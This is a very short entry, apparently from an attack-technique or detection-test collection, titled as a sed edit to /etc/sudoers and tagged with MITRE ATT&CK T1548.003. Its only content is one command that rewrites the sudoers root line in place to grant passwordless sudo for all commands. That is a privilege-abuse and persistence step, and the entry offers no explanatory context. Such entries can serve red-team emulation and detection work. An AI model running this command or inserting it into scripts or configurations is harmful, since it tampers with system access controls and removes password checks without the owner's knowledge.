# title: sed changes /etc/sudoers in its place
# technique: T1548.003

sed -i 's/^root.*/root ALL=(ALL) NOPASSWD: ALL/' /etc/sudoers
